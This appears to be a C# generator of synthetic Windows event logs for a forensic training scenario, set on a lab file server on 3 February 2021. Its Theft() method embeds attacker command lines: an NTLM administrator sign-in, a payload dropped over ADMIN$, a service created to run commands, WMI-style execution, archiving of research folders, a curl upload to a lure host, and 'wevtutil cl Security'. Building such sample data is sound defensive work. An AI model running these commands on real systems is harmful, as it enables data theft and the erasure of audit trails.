using Cordon.Evtx.Writing;
using Cordon.Samples.Events;

namespace Cordon.Samples.Logs;

/// <summary>What happens on the file server in the evening of 3 February, and what happens there on any other day.</summary>
internal sealed class FileServerTheft(EvtxRecordForm form, Chance chance)
{
    public static readonly DateTime Evening = new(2021, 2, 3, 20, 30, 0, DateTimeKind.Utc);
    public static readonly DateTime Emptied = new DateTime(2021, 2, 3, 21, 26, 8, DateTimeKind.Utc).AddTicks(7_204_113);

    private const string System32 = @"C:\Windows\System32\";
    private const string Cmd = System32 + "cmd.exe";

    private readonly SecurityEvents _security = new(Laboratory.Files, form);
    private readonly SystemEvents _system = new(Laboratory.Files, form);

    /// <summary>The local administrator of the file server: the same hash as on every computer of the house.</summary>
    private readonly SignIn _intruder = new()
    {
        Name = "Administrator",
        Domain = Laboratory.Files.Name,
        Sid = "S-1-5-21-1180693241-2055347788-3471092214-500",
        Session = 0x5D0E4B2,
        Package = "NTLM",
        LogonProcess = "NtLmSsp ",
        Workstation = Laboratory.Workstation.Name,
        Address = Laboratory.Workstation.Address,
        Port = "51877",
        Elevated = true,
    };

    /// <summary>The log is emptied: by the intruder, and long before by whoever set the server up with the same account.</summary>
    public EvtxWriteEvent LogEmptied(DateTime time) => _security.LogEmptied(time, _intruder);

    /// <summary>A sign-in over the network with its end: what fills the log of a file server.</summary>
    public EvtxWriteEvent[] Visit(DateTime time, Account account, Computer from)
    {
        var signIn = SignIn.Network(account, from, chance);
        return [_security.SignedIn(time, signIn), _security.SignedOut(time.AddMinutes(chance.Between(2, 90)), signIn)];
    }

    /// <summary>The nightly backup signs in as an administrator, works and leaves.</summary>
    public EvtxWriteEvent[] BackupRuns(DateTime time)
    {
        var signIn = SignIn.Network(Laboratory.Backup, Laboratory.Mail, chance) with { Elevated = true };
        return
        [
            _security.SignedIn(time, signIn),
            _security.Privileged(time, signIn),
            _security.SignedOut(time.AddMinutes(12), signIn),
        ];
    }

    /// <summary>Somebody works with files on a share.</summary>
    public EvtxWriteEvent[] FilesUsed(DateTime time, Account account, Computer from)
    {
        var signIn = SignIn.Network(account, from, chance);
        string[] files =
        [
            @"Stability\2021-01 summary.xlsx",
            @"Assay\plates\week4.csv",
            @"Formulation\buffer screen.docx",
            @"QC\release 0114.pdf",
        ];
        return
        [
            _security.ShareOpened(time, signIn, "Research", @"D:\Research"),
            _security.FileOnShare(
                time.AddMilliseconds(40),
                signIn,
                "Research",
                @"D:\Research",
                chance.Pick(files),
                write: chance.Between(0, 2) == 0
            ),
        ];
    }

    /// <summary>The service of the backup starts and ends; updates come.</summary>
    public EvtxWriteEvent[] Housekeeping(DateTime time) =>
        [
            _system.ServiceState(time, "Volume Shadow Copy", "running"),
            _system.ServiceState(time.AddMinutes(4), "Volume Shadow Copy", "stopped"),
            _system.StartChanged(
                time.AddMinutes(9),
                "Background Intelligent Transfer Service",
                "BITS",
                "auto start",
                "demand start"
            ),
        ];

    public EvtxWriteEvent[] Updates(DateTime time) =>
        [
            _system.Updated(
                time,
                "Security Intelligence Update for Microsoft Defender Antivirus - KB2267602 (Version 1.331.174.0)",
                chance.Guid()
            ),
        ];

    /// <summary>In, over the administrative share, with a service; the research folders into an archive; the archive out.</summary>
    public EvtxWriteEvent[] Theft()
    {
        var start = Evening.AddMinutes(1).AddSeconds(26).AddTicks(3_318_870);
        var rar = @"C:\Windows\Temp\Rar.exe";
        var pack =
            rar
            + @" a -r -v250m -hpNotARealSecret C:\PerfLogs\pl.rar D:\Research\Formulation D:\Research\Stability D:\Research\Assay";
        var upload = @"curl.exe -k -T C:\PerfLogs\pl.part01.rar https://" + Lure.Address + "/in/";
        return
        [
            _security.CheckedByNtlm(start, "Administrator", Laboratory.Workstation.Name, 0),
            _security.SignedIn(start.AddMilliseconds(12), _intruder),
            _security.Privileged(start.AddMilliseconds(12), _intruder),
            _security.ShareOpened(start.AddSeconds(1), _intruder, "ADMIN$", @"C:\Windows"),
            _security.FileOnShare(
                start.AddSeconds(1.3),
                _intruder,
                "ADMIN$",
                @"C:\Windows",
                @"Temp\Rar.exe",
                write: true
            ),
            _system.ServiceInstalled(
                start.AddSeconds(9),
                "S-1-5-18",
                "LumenSync",
                @"%COMSPEC% /C dir D:\Research /s > C:\Windows\Temp\ls.txt"
            ),
            Run(
                start.AddSeconds(9.5),
                0x1A54,
                Cmd,
                @"C:\Windows\system32\cmd.exe /C dir D:\Research /s > C:\Windows\Temp\ls.txt",
                0x29C,
                System32 + "services.exe"
            ),
            Run(
                start.AddMinutes(3.31),
                0x1B08,
                Cmd,
                @"cmd.exe /Q /c dir D:\Research\Stability 1> \\127.0.0.1\ADMIN$\__1612384472.83 2>&1",
                0xE4C,
                System32 + @"wbem\WmiPrvSE.exe"
            ),
            Run(
                start.AddMinutes(6.72),
                0x1C2C,
                Cmd,
                @"cmd.exe /Q /c C:\Windows\Temp\pack.cmd 1> \\127.0.0.1\ADMIN$\__1612384472.83 2>&1",
                0xE4C,
                System32 + @"wbem\WmiPrvSE.exe"
            ),
            Run(start.AddMinutes(6.73), 0x1C90, rar, pack, 0x1C2C, Cmd),
            Run(start.AddMinutes(31.44), 0x1D14, System32 + "curl.exe", upload, 0x1C2C, Cmd),
            Run(
                start.AddMinutes(54).AddSeconds(40),
                0x1E70,
                System32 + "wevtutil.exe",
                "wevtutil cl Security",
                0x1C2C,
                Cmd
            ),
        ];
    }

    private EvtxWriteEvent Run(DateTime time, uint id, string image, string line, uint parent, string parentImage) =>
        _security.Started(
            time,
            parentImage.EndsWith("services.exe", StringComparison.Ordinal)
                ? SignIn.System(Laboratory.Files)
                : _intruder,
            id,
            image,
            line,
            parent,
            parentImage
        );
}
